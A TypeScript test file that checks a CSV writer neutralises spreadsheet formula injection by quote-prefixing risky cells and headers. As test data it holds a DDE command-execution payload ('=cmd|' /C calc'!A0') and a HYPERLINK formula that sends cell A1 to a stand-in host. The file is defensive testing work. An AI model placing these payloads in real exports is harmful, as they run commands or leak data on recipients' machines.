import { describe, expect, test } from 'vitest';
import { parseCsv, writeCsv, type Table } from '../../../src/core/table';
import { predictionsFile } from '../../../src/core/deploy';

/** A table whose text column holds the classic spreadsheet-formula payloads. */
const PAYLOADS = ['=HYPERLINK("http://x.test?"&A1,"Click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tTAB', '\rCR', 'plain', '', "'already"];

function payloadTable(): Table {
  const csv = ['"=cmd|\' /C calc\'!A0",amount', ...PAYLOADS.map((p, i) => `"${p.replaceAll('"', '""')}",${i === 2 ? -3 : i}`)].join('\n');
  return parseCsv(csv, { missingTokens: [], typeOverrides: { '=cmd|\' /C calc\'!A0': 'text' } }).table;
}

/** The cells of the first column and the header, as a spreadsheet would receive them. */
function firstColumn(csv: string): string[] {
  const table = parseCsv(csv, { missingTokens: [], typeOverrides: { "'=cmd|' /C calc'!A0": 'text', '=cmd|\' /C calc\'!A0': 'text' } }).table;
  const c = table.columns[0] as { codes: Int32Array; dictionary: string[] };
  return [table.columns[0].name, ...Array.from(c.codes, (k) => (k < 0 ? '' : c.dictionary[k]))];
}

describe('CSV exports neutralise formula injection', () => {
  test.each(PAYLOADS.filter((p) => /^[=+\-@\t\r]/.test(p)))('text cell %j is prefixed with a quote', (payload) => {
    const cells = firstColumn(writeCsv(payloadTable()));
    expect(cells).toContain(`'${payload}`);
    expect(cells).not.toContain(payload);
  });

  test('headers are neutralised too; harmless text and numbers (even negative) are left alone', () => {
    const csv = writeCsv(payloadTable());
    const cells = firstColumn(csv);
    expect(cells[0]).toBe("'=cmd|' /C calc'!A0");
    expect(cells).toContain('plain');
    expect(cells).toContain("'already");
    expect(csv).toContain(',-3\r\n');
    expect(csv).not.toContain(",'-3");
  });

  test('neutraliseFormulas: false writes the text exactly', () => {
    const cells = firstColumn(writeCsv(payloadTable(), { neutraliseFormulas: false }));
    for (const p of PAYLOADS.filter((x) => x !== '')) expect(cells).toContain(p);
  });

  test('scored predictions downloaded as CSV are neutralised', () => {
    const text = new TextDecoder().decode(predictionsFile(payloadTable(), 'csv'));
    expect(firstColumn(text)).toContain("'=HYPERLINK(\"http://x.test?\"&A1,\"Click\")");
    expect(firstColumn(text)).not.toContain('@SUM(A1:A9)');
  });
});
